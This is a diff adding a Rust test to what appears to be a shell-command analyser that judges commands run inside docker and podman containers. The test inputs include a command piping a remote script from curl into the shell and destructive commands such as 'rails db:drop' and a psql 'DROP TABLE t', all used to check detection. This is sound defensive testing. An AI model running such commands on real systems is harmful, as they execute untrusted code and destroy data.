@@ -1290,3 +1290,22 @@ fn alias_values_and_scripts_on_stdin_are_analysed() {
     let a = analyse_shell("curl -s https://example.invalid/x | source /dev/stdin");
     assert!(!a.opaque.is_empty());
 }
+
+/// `docker run IMAGE CMD` and `docker compose run SERVICE CMD` start CMD in a new container
+/// with the service's network and credentials: CMD is judged (`compose run web rails db:drop`
+/// was judged as `docker` alone).
+#[test]
+fn the_command_docker_run_starts_is_analysed() {
+    let a = analyse_shell("docker compose run --rm -e RAILS_ENV=test web rails db:drop");
+    let drop = find(&a, &["rails", "db:drop"]);
+    assert!(drop.remote.is_none(), "{drop:?}");
+    let a = analyse_shell("docker run --rm -v /src:/w -w /w --name x node:20 npm publish");
+    find(&a, &["npm", "publish"]);
+    let a = analyse_shell("podman run --rm --entrypoint psql postgres:16 -c 'DROP TABLE t'");
+    find(&a, &["psql", "-c", "DROP TABLE t"]);
+    let a = analyse_shell("docker container run --rm alpine sh -c 'git push'");
+    find(&a, &["git", "push"]);
+    // No command: the image's own.
+    let a = analyse_shell("docker run -d -p 8080:80 nginx");
+    assert_eq!(a.commands.len(), 1, "{:?}", a.commands);
+}
